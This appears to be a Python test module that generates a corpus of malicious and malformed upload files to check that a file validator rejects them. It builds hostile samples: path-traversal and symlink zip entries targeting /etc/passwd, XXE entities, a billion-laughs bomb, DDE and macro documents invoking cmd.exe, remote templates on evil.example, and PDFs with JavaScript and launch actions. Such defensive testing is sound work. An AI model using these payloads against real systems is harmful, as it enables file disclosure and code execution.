"""More than 150 files that must not be taken, each with the reason that is told.

    python -m tests.files.corpus FOLDER      # writes them out, with a list of the reasons

Made by program and always the same: no bad file lies in the repository.
"""

import io
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from struct import pack, unpack_from

from tests.files.bad import (
    ALL,
    EICAR,
    HTML,
    OFFICE,
    OFFICE_ENTRIES,
    OLE,
    SVG,
    Bad,
    R,
    places_of,
    replaced,
)
from tests.files.bombs import bombs
from tests.files.good import chunk, odt, odt_entries, ooxml, packed, pdf, picture


def corpus() -> Iterator[Bad]:
    """Give the bad files one by one."""
    for make in (
        _empty_and_other, _renamed, _truncated, _locked, bombs, _names, _polyglots, _macros,
        _entities, _active_pdfs, _broken_pictures, _nested, _damaged,
    ):
        yield from make()


def _empty_and_other() -> Iterator[Bad]:
    for ending in ALL:
        yield Bad(f"tom.{ending}", b"", (R.UPLOAD_EMPTY,))
    others = {
        "svg": SVG, "html": HTML, "htm": HTML, "xhtml": HTML, "js": b"alert(1)", "exe": b"MZ\x90",
        "zip": packed([("a.txt", "a")]), "doc": OLE, "xls": OLE, "ppt": OLE, "gif": b"GIF89a",
        "webp": b"RIFF", "heic": b"\0\0\0\x18ftypheic", "txt": EICAR, "rtf": b"{\\rtf1}",
        "ods": odt(media="application/vnd.oasis.opendocument.spreadsheet"), "csv": b"=cmd()",
        "eml": b"From: a", "pdf.exe": b"MZ\x90", "": b"utan",
    }
    for ending, content in others.items():
        yield Bad(f"fil.{ending}" if ending else "fil", content, (R.UPLOAD_TYPE,))


def _renamed() -> Iterator[Bad]:
    for ending in ALL:
        for content in (HTML, SVG, b"MZ\x90\0" + b"\0" * 200, b"GIF89a" + b"\0" * 50, EICAR):
            yield Bad(f"omdöpt.{ending}", content, (R.UPLOAD_MISMATCH,))
    for ending, other in (
        ("pdf", "docx"), ("docx", "pdf"), ("png", "jpg"), ("jpg", "png"), ("docx", "xlsx"),
        ("xlsx", "pptx"), ("pptx", "odt"), ("odt", "docx"), ("docx", "png"),
    ):
        yield Bad(f"omdöpt.{ending}", ALL[other], (R.UPLOAD_MISMATCH,))
    yield Bad("vanlig-zip.docx", packed([("a.txt", "a")]), (R.UPLOAD_MISMATCH,))
    yield Bad(
        "kalkyl.odt", odt(media="application/vnd.oasis.opendocument.spreadsheet"),
        (R.UPLOAD_MISMATCH,),
    )


def _truncated() -> Iterator[Bad]:
    for ending, content in ALL.items():
        for share in (0.3, 0.6, 0.9, 0.99):
            yield Bad(
                f"avbruten-{share}.{ending}", content[: int(len(content) * share)],
                (R.UPLOAD_UNREADABLE,),
            )


def _locked() -> Iterator[Bad]:
    for ending in ("docx", "xlsx", "pptx"):
        yield Bad(f"lösenord.{ending}", OLE, (R.UPLOAD_UNREADABLE,))
    for ending, content in OFFICE.items():
        locked = bytearray(content)
        for place in places_of(content, b"PK\x03\x04"):
            locked[place + 6] |= 1
        for place in places_of(content, b"PK\x01\x02"):
            locked[place + 8] |= 1
        yield Bad(f"krypterad.{ending}", bytes(locked), (R.UPLOAD_UNREADABLE,))
    secret = '<manifest:encryption-data manifest:checksum="x"/>'
    yield Bad("låst.odt", odt(manifest=secret), (R.UPLOAD_UNREADABLE,))
    yield Bad("låst.pdf", _locked_pdf(), (R.UPLOAD_UNREADABLE,))


def _locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(PdfReader(io.BytesIO(pdf())))
    writer.encrypt("hemligt", algorithm="AES-256")
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def _names() -> Iterator[Bad]:
    """Documents with parts that would lie elsewhere when they are unpacked."""
    for name in (
        "../../../etc/passwd", "..\\..\\a.xml", "/etc/passwd", "C:/a.xml", "word/../../a.xml",
        "word//a.xml", "a\x01b.xml", "a\u202egnp.xml", "word/\u2028.xml", "word/\u0085.xml",
    ):
        yield Bad(
            "stig.docx", ooxml("docx", more=[(name, "a")]), (R.UPLOAD_UNREADABLE,)
        )
    twice = ooxml("docx", more=[("WORD/document.xml", "<a/>")])
    yield Bad("dubbel.docx", twice, (R.UPLOAD_UNREADABLE,))
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    data = io.BytesIO(OFFICE["docx"])
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    yield Bad("länk.docx", data.getvalue(), (R.UPLOAD_UNREADABLE,))


def _polyglots() -> Iterator[Bad]:
    archive = packed([("a.txt", "a")])
    for ending in OFFICE:
        yield Bad(f"framför.{ending}", b"<html>" + OFFICE[ending], (R.UPLOAD_MISMATCH,))
        yield Bad(f"bakom.{ending}", OFFICE[ending] + HTML, (R.UPLOAD_UNREADABLE,))
        with_comment = OFFICE[ending][:-2] + pack("<H", len(HTML)) + HTML
        yield Bad(f"kommentar.{ending}", with_comment, (R.UPLOAD_UNREADABLE,))
    for hidden in (HTML, archive, EICAR, b"MZ\x90\0"):
        yield Bad("bakom.pdf", pdf() + hidden, (R.UPLOAD_UNREADABLE,))
        yield Bad("bakom.png", picture() + hidden, (R.UPLOAD_MISMATCH,))
    for hidden in (HTML, SVG, archive, pdf(), b"<?php phpinfo();"):
        yield Bad("bakom.jpg", picture("JPEG") + hidden, (R.UPLOAD_MISMATCH,))
    yield Bad("i-kommentar.jpg", picture("JPEG", comment=HTML), (R.UPLOAD_MISMATCH,))
    text = picture()[:-12] + chunk(b"tEXt", b"a\0" + HTML) + picture()[-12:]
    yield Bad("i-text.png", text, (R.UPLOAD_MISMATCH,))
    yield Bad("framför.pdf", HTML + pdf(), (R.UPLOAD_MISMATCH,))
    yield Bad("dubbel.pdf", OFFICE["docx"] + pdf(), (R.UPLOAD_MISMATCH,))


def _macros() -> Iterator[Bad]:
    for ending in ("docm", "xlsm", "pptm", "dotm"):
        yield Bad(f"makro.{ending}", OFFICE["docx"], (R.UPLOAD_MACROS,))
    for ending in ("docx", "pptx", "xlsx"):
        folder = {"docx": "word", "pptx": "ppt", "xlsx": "xl"}[ending]
        yield Bad(
            f"vba.{ending}", ooxml(ending, more=[(f"{folder}/vbaProject.bin", OLE)]),
            (R.UPLOAD_MACROS,),
        )
        listed = '<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>'
        yield Bad(f"vba-lista.{ending}", ooxml(ending, listing=listed), (R.UPLOAD_MACROS,))
        yield Bad(
            f"activex.{ending}", ooxml(ending, more=[(f"{folder}/activeX/activeX1.xml", "<a/>")]),
            (R.UPLOAD_MACROS,),
        )
        enabled = OFFICE_ENTRIES[ending]()
        enabled[0] = (enabled[0][0], enabled[0][1].replace(
            "main+xml", "main.macroEnabled+xml").replace("document.main.macro", "macro"))
        yield Bad(f"macroEnabled.{ending}", packed(enabled),
                  (R.UPLOAD_MACROS, R.UPLOAD_MISMATCH))
    yield Bad("basic.odt", odt(more=[("Basic/Standard/Module1.xml", "<a/>")]), (R.UPLOAD_MACROS,))
    yield Bad("skript.odt", odt(more=[("Scripts/python/a.py", "a")]), (R.UPLOAD_MACROS,))
    yield Bad("händelse.odt", odt("vnd.sun.star.script:a"), (R.UPLOAD_MACROS,))
    yield Bad("html-inuti.docx", ooxml("docx", more=[("word/a.html", "a")]), (R.UPLOAD_MACROS,))
    dde = replaced(
        "word/document.xml",
        "<w:document xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>",
    )
    yield Bad("dde.docx", dde, (R.UPLOAD_MACROS,))
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for kind, target in (
        ("attachedTemplate", "https://evil.example/a.dotm"), ("oleObject", "mhtml:http://a!x"),
        ("frame", "\\\\evil.example\\a"), ("attachedTemplate", "//evil.example/a.dotm"),
    ):
        rels = f'<Relationship Id="r" Type="{office}/{kind}" Target="{target}" ' \
               'TargetMode="External"/>'
        yield Bad("hämtar.docx", ooxml("docx", rels=rels), (R.UPLOAD_MACROS,))


def _entities() -> Iterator[Bad]:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
    )
    for text in (
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        f"<!DOCTYPE a [{laughs}]><a>&l9;</a>",
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        '<!doctype a [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><a/>', "<a><b></a>",
        "inte xml", "<a>" * 5_000 + "</a>" * 5_000, "\ufeff" + "<!DOCTYPE a><a/>",
    ):
        yield Bad("entiteter.docx", replaced("word/document.xml", text), (R.UPLOAD_UNREADABLE,))
        entries = [(n, text if n == "content.xml" else c) for n, c in odt_entries()]
        yield Bad("entiteter.odt", packed(entries, stored=("mimetype",)), (R.UPLOAD_UNREADABLE,))
    wide = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")
    yield Bad("utf16.docx", replaced("word/document.xml", wide), (R.UPLOAD_UNREADABLE,))


def _active_pdfs() -> Iterator[Bad]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    for catalog in (
        b"/OpenAction" + script, b"/AA<</WC" + script + b">>",
        b"/OpenAction<</S/#4aavaScript/#4aS(a)>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>", b"/OpenAction<</S/SubmitForm/F(http://a)>>",
        b"/OpenAction<</S/ImportData/F(a)>>", b"/OpenAction<</S/GoToR/F(a.pdf)/D[0/Fit]>>",
        b"/Names<</JavaScript<</Names[(a)" + script + b"]>>>>", b"/AcroForm<</XFA(a)>>",
    ):
        yield Bad("aktiv.pdf", pdf(catalog=catalog), (R.UPLOAD_ACTIVE,))
    yield Bad("aktiv-annanstans.pdf", pdf(catalog=b"/OpenAction 6 0 R", objects=[script]),
              (R.UPLOAD_ACTIVE,))
    for catalog, objects in (
        (b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>", [b"<</Type/Filespec/F(a)/EF<<>>>>"]),
        (b"", [b"<</Type/EmbeddedFile/Length 1>>stream\na\nendstream"]),
    ):
        yield Bad("bilaga.pdf", pdf(catalog=catalog, objects=objects), (R.UPLOAD_NESTED,))
    loop = pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    yield Bad("ring.pdf", loop, (R.UPLOAD_UNREADABLE,))
    yield Bad("utan-sidor.pdf", pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"),
              (R.UPLOAD_UNREADABLE,))
    yield Bad("bara-huvud.pdf", b"%PDF-1.7\n%%EOF\n", (R.UPLOAD_UNREADABLE,))


def _broken_pictures() -> Iterator[Bad]:
    damaged = bytearray(picture())
    damaged[60] ^= 0xFF
    yield Bad("fel-crc.png", bytes(damaged), (R.UPLOAD_UNREADABLE,))
    head, rest = picture()[:33], picture()[33:]
    yield Bad("utan-ihdr.png", picture()[:8] + rest, (R.UPLOAD_UNREADABLE,))
    yield Bad("utan-bild.png", head + chunk(b"IEND", b""), (R.UPLOAD_UNREADABLE,))
    yield Bad("skräp.png", head + b"\0" * 100, (R.UPLOAD_UNREADABLE,))
    yield Bad("skräp.jpg", b"\xff\xd8\xff" + b"\0" * 100, (R.UPLOAD_UNREADABLE,))
    yield Bad("utan-bild.jpg", b"\xff\xd8\xff\xd9", (R.UPLOAD_UNREADABLE,))
    yield Bad("lång.jpg", b"\xff\xd8\xff\xe1\xff\xff" + b"a" * 50, (R.UPLOAD_UNREADABLE,))


def _nested() -> Iterator[Bad]:
    for name, content in (
        ("word/embeddings/a.xlsx", OFFICE["xlsx"]), ("word/embeddings/ole.bin", OLE),
        ("word/media/a.png", packed([("eicar.com", EICAR)])), ("word/a.dat", b"Rar!\x1a\x07\0"),
        ("word/a.dat", b"7z\xbc\xaf\x27\x1c"), ("word/a.dat", b"\x1f\x8b\x08"),
        ("word/a.dat", b"MZ\x90\0"), ("word/a.dat", b"\x7fELF"), ("word/a.dat", pdf()),
    ):
        yield Bad("inbäddad.docx", ooxml("docx", more=[(name, content)]), (R.UPLOAD_NESTED,))
    yield Bad("inbäddad.odt", odt(more=[("Object 1", packed([("a", "a")]))]), (R.UPLOAD_NESTED,))


def _damaged() -> Iterator[Bad]:
    """A byte changed in the middle of what a document holds."""
    for ending, content in OFFICE.items():
        place = places_of(content, b"PK\x03\x04")[1]
        size = unpack_from("<L", content, places_of(content, b"PK\x01\x02")[1] + 20)[0]
        name = unpack_from("<H", content, place + 26)[0]
        damaged = bytearray(content)
        damaged[place + 30 + name + size // 2] ^= 0x55
        if size:
            yield Bad(f"skadad.{ending}", bytes(damaged), (R.UPLOAD_UNREADABLE,))


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, bad in enumerate(corpus(), 1):
        (folder / f"{number:03}-{bad.name}").write_bytes(bad.content)
        print(number, bad.name, *bad.reasons)
